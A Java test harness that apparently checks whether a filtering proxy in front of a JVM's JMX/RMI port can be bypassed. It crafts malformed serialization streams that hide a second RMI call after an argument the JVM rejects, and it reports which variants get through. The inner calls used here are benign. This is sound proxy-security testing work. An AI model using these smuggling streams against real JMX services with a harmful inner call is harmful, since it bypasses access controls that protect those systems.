// SPDX-License-Identifier: Apache-2.0

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.rmi.MarshalledObject;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import javax.management.Attribute;
import javax.management.ObjectName;

/**
 * Sends calls that contain another call, at a place where the JVM fails to read
 * an argument.  A JVM takes the bytes after that place for the next message.
 *
 * <pre>
 * java Smuggling JVM-PORT PROXY-PORT
 * </pre>
 *
 * Prints a line for each call: "kept NAME", or "SMUGGLED NAME" if the call
 * within was executed.  Before the login, that is a lookup, whose reply has a
 * stub; after the login, it changes the attribute Verbose.
 */
public class Smuggling {
	private static final long LOOKUP = 0x44154dc9d4e63bdfL;
	private static final long DGC = 0xf6b6898d8bf28643L;
	private static final long NEW_CLIENT = 0xf0e074eaad0caea8L;
	private static final long GET = 0xf0e0500a394d7215L;
	private static final long SET = 0x5d845744730afe0cL;
	private static final long QUERY_NAMES = 0x7f0473acb73677daL;
	/** The JVM reads strings and blocks in pieces of this length. */
	private static final int PIECE = 1024;

	private static final byte[] REGISTRY = new byte[22];
	private static final ObjectName MEMORY = memory();

	private static ObjectName memory() {
		try {
			return new ObjectName("java.lang:type=Memory");
		} catch (Exception e) {
			throw new IllegalArgumentException(e);
		}
	}

	/** A stream of RMI has a null after each class. */
	private static class Out extends ObjectOutputStream {
		Out(OutputStream o) throws IOException {
			super(o);
		}

		@Override
		protected void annotateClass(Class<?> c) throws IOException {
			writeObject(null);
		}
	}

	/** Bytes from strings in ISO 8859-1, byte arrays, and numbers. */
	private static byte[] bytes(Object... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (Object part : parts) {
			if (part instanceof Integer)
				out.write((Integer) part);
			else
				out.writeBytes(part instanceof byte[]
					? (byte[]) part : ((String) part)
					.getBytes(StandardCharsets.ISO_8859_1));
		}
		return out.toByteArray();
	}

	private static byte[] u2(int n) {
		return bytes(n >> 8, n);
	}

	private static byte[] u4(int n) {
		return bytes(n >> 24, n >> 16, n >> 8, n);
	}

	private static byte[] u8(long n) {
		return bytes(u4((int) (n >> 32)), u4((int) n));
	}

	private static byte[] utf(byte[] text) {
		return bytes(u2(text.length), text);
	}

	private static byte[] utf(String text) {
		return utf(text.getBytes(StandardCharsets.ISO_8859_1));
	}

	private static byte[] call(byte[] id, int operation, long hash,
			Object... arguments) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(0x50);
		Out objects = new Out(out);
		objects.write(id);
		objects.writeInt(operation);
		objects.writeLong(hash);
		for (Object argument : arguments)
			objects.writeObject(argument);
		objects.flush();
		return out.toByteArray();
	}

	private static Socket open(int port) throws IOException {
		Socket s = new Socket("127.0.0.1", port);
		s.setSoTimeout(300000);
		s.getOutputStream().write(bytes("JRMI", 0, 2, 0x4b));
		DataInputStream in = new DataInputStream(s.getInputStream());
		in.readByte();
		in.readUTF();
		in.readInt();
		s.getOutputStream().write(bytes(utf("x"), u4(0)));
		return s;
	}

	/** Sends a message, and returns all bytes until the end. */
	private static String ask(Socket s, byte[] message) {
		StringBuilder said = new StringBuilder();
		try {
			s.getOutputStream().write(message);
			s.shutdownOutput();
			for (int b; (b = s.getInputStream().read()) >= 0;)
				said.append((char) b);
		} catch (IOException e) {
			// The proxy closed the connection early.
		}
		return said.toString();
	}

	/** Sends a call that returns a stub, and returns its ObjID. */
	private static byte[] stub(Socket s, byte[] call) throws IOException {
		s.getOutputStream().write(call);
		StringBuilder said = new StringBuilder();
		byte[] buffer = new byte[4096];
		for (;;) {
			int at = said.indexOf("UnicastRef");
			int from = at + "UnicastRef".length();
			// In a UnicastRef2, a byte precedes the host.
			if (at >= 0 && said.length() > from + 4)
				from += said.charAt(from) == '2' ? 2 : 0;
			if (at >= 0 && said.length() > from + 4) {
				int end = from + 2 + said.charAt(from + 1) + 4
					+ 22;
				if (said.length() > end)
					return bytes(said.substring(end - 22,
						end));
			}
			int got = s.getInputStream().read(buffer);
			if (got < 0)
				throw new IOException("no stub: " + said);
			said.append(new String(buffer, 0, got,
				StandardCharsets.ISO_8859_1));
		}
	}

	private static byte[] login(Socket s) throws IOException {
		byte[] server = stub(s, call(REGISTRY, 2, LOOKUP, "jmxrmi"));
		return stub(s, call(server, -1, NEW_CLIENT, (Object) null));
	}

	private static boolean verbose(int port) throws Exception {
		try (Socket s = open(port)) {
			byte[] id = login(s);
			return ask(s, call(id, -1, GET, MEMORY, "Verbose",
				null)).endsWith("\1");
		}
	}

	/** Text whose first character the JVM rejects, and then the bytes. */
	private static byte[] text(byte[] inner) {
		byte[] pad = new byte[PIECE];
		Arrays.fill(pad, (byte) 'a');
		pad[0] = (byte) 0xff;
		return bytes(pad, inner);
	}

	private static byte[] descriptor(byte[] name, long suid, int flags,
			Object... fields) {
		return bytes(0x72, utf(name), u8(suid), flags,
			u2(fields.length), bytes(fields), "px");
	}

	private static byte[] descriptor(String name, long suid, int flags,
			Object... fields) {
		return descriptor(bytes(name), suid, flags, fields);
	}

	private static byte[] array(String name, int length) {
		return bytes("u", descriptor(name, 0, 2), "p", u4(length));
	}

	private static Map<String, byte[]> beforeLogin(byte[] server)
			throws IOException {
		byte[] inner = call(REGISTRY, 2, LOOKUP, "jmxrmi");
		byte[] dgc = REGISTRY.clone();
		dgc[7] = 2;
		byte[] large = Arrays.copyOf(inner, 10001);
		byte[] end = bytes("w", 8, u8(1), "p");
		byte[] login = call(server, -1, NEW_CLIENT);
		Map<String, byte[]> all = new LinkedHashMap<>();

		all.put("dgc-array", bytes(call(dgc, 1, DGC), array("[B", 10001),
			large, end));
		all.put("dgc-address", bytes(call(dgc, 1, DGC),
			array("[Ljava.rmi.server.ObjID;", 0), "w", 8, u8(1),
			"s", descriptor("java.rmi.dgc.Lease",
				0xb0b5e2660c4adc34L, 2, bytes("J",
				utf("value")), bytes("L", utf("vmid"), "t",
				utf("Ljava/rmi/dgc/VMID;"))), "p", u8(1),
			"s", descriptor("java.rmi.dgc.VMID",
				0xf8865bafa4a56db6L, 2, bytes("[",
				utf("addr"), "t", utf("[B")), bytes("L",
				utf("uid"), "t", utf("Ljava/rmi/server/UID;"))),
			"p", array("[B", 10001), large, "p"));
		all.put("dgc-class", bytes(call(dgc, 1, DGC), "s",
			descriptor(text(inner), 1, 2), "p", end));
		all.put("lookup-string", bytes(call(REGISTRY, 2, LOOKUP), "t",
			utf(text(inner))));
		all.put("lookup-array", bytes(call(REGISTRY, 2, LOOKUP),
			array("[B", inner.length), inner));
		all.put("login-string", bytes(login,
			array("[Ljava.lang.String;", 2), "t",
			utf(text(inner)), "p"));
		all.put("login-class", bytes(login, "s",
			integer(1, 2, inner, "p"), padded(inner)));
		return all;
	}

	private static byte[] padded(byte[] inner) {
		return Arrays.copyOf(inner, (inner.length + 7) / 8 * 8);
	}

	/** A descriptor of Integer with fields for the padded bytes. */
	private static byte[] integer(long suid, int flags, byte[] inner,
			String end) {
		Object[] fields = new Object[(inner.length + 7) / 8];
		for (int i = 0; i < fields.length; i++)
			fields[i] = bytes("J", utf("f" + i));
		return bytes(descriptor("java.lang.Integer", suid, flags,
			fields), descriptor("java.lang.Number",
			0x86ac951d0b94e08bL, 2), end);
	}

	/** The calls differ in the argument that the JVM fails to read. */
	private static Map<String, byte[]> afterLogin(byte[] id, byte[] inner)
			throws Exception {
		byte[] get = call(id, -1, GET, MEMORY);
		byte[] name = bytes("s", descriptor(
			"javax.management.ObjectName", 0x0f03a71beb6d15cfL, 3),
			"p");
		byte[] text = text(inner);
		byte[] values = padded(inner);
		Map<String, byte[]> all = new LinkedHashMap<>();

		all.put("string", bytes(get, "t", utf(text), "p"));
		all.put("long-string", bytes(get, "|", u8(text.length), text,
			"p"));
		all.put("object-name", bytes(call(id, -1, GET), name, "t",
			utf(text), "xt", utf("Verbose"), "p"));
		all.put("block-data", bytes(call(id, -1, GET), name, "z",
			u4(text.length), text, "t", utf("java.lang:type=Memory"),
			"xt", utf("Verbose"), "p"));
		all.put("class-name", bytes(get, "t", utf("Verbose"), "s",
			descriptor(text, 1, 2), "p"));
		all.put("field-name", bytes(get, "t", utf("Verbose"), "s",
			descriptor("java.lang.Integer", 1, 2, bytes("I",
				utf(text))), "p", u4(0)));
		all.put("field-type", bytes(get, "t", utf("Verbose"), "s",
			descriptor("java.lang.Integer", 1, 2, bytes("L",
				utf("value"), "t", utf(text))), "pp"));
		all.put("field-count", bytes(get, "t", utf("Verbose"), "s",
			integer(0x12e2a0a4f7818738L, 0x12, inner, "p"),
			values));
		all.put("suid", bytes(get, "t", utf("Verbose"), "s",
			integer(1, 2, inner, "p"), values));
		all.put("flags", bytes(get, "t", utf("Verbose"), "s",
			integer(0x12e2a0a4f7818738L, 0x06, inner, "p"),
			values));
		all.put("code-base", bytes(get, "t", utf("Verbose"), "s", "r",
			utf("java.lang.Integer"), u8(0x12e2a0a4f7818738L), 2,
			u2(0), "t", utf(text), "xp"));
		all.put("reference", bytes(get, "t", utf("Verbose"), "s",
			descriptor("java.lang.Integer", 1, 2, bytes("L",
				utf("a"), "t", utf("[B")), bytes("L", utf("b"),
				"|", u8(text.length), text)), "pp", "q",
			u4(0x7e0005)));
		all.put("proxy-class", bytes(get, "t", utf("Verbose"), "s}",
			u4(1), utf(text), "pxp"));
		all.put("array-class", bytes(get, "t", utf("Verbose"), "u",
			descriptor(bytes("[", text), 1, 2), "p", u4(0)));
		// The JVM has a serial filter with a limit for arrays, so it
		// reads the second stream of bytes, a null, only at its start.
		byte[] large = Arrays.copyOf(inner, 250001);
		all.put("array", bytes(get, "t", utf("Verbose"),
			array("[B", large.length), large));
		for (String head : new String[] { "", "\u00ac\u00ed\0\5p" })
			all.put("marshalled-array-" + head.length(), bytes(
				call(id, -1, QUERY_NAMES, MEMORY), "s",
				descriptor("java.rmi.MarshalledObject",
				0x7cbd1e97ed63fc3eL, 2, bytes("I",
				utf("hash")), bytes("[", utf("locBytes"), "t",
				utf("[B")), bytes("[", utf("objBytes"), "t",
				utf("[B"))), "p", u4(0), "p", array("[B",
				head.length() + large.length), head, large,
				"p"));
		return all;
	}

	private static void report(String name, boolean smuggled) {
		System.out.println((smuggled ? "SMUGGLED " : "kept ") + name);
	}

	private static byte[] server(int port) throws IOException {
		try (Socket s = open(port)) {
			return stub(s, call(REGISTRY, 2, LOOKUP, "jmxrmi"));
		}
	}

	/** The ObjID of a session is that of the connection that logs in. */
	private static void attack(int port, String name, boolean value)
			throws Exception {
		Socket s = open(port);
		byte[] id = login(s);
		byte[] inner = call(id, -1, SET, MEMORY, new MarshalledObject<>(
			new Attribute("Verbose", value)), null);
		ask(s, afterLogin(id, inner).get(name));
	}

	public static void main(String[] arguments) throws Exception {
		int jvm = Integer.parseInt(arguments[0]);
		int proxy = Integer.parseInt(arguments[1]);

		byte[] server = server(proxy);
		for (Map.Entry<String, byte[]> one
				: beforeLogin(server).entrySet()) {
			String said = ask(open(proxy), one.getValue());
			report(one.getKey(), said.contains("UnicastRef"));
		}
		for (String name : afterLogin(REGISTRY, new byte[8]).keySet()) {
			boolean before = verbose(jvm);
			attack(proxy, name, !before);
			report(name, verbose(jvm) != before);
		}
	}
}
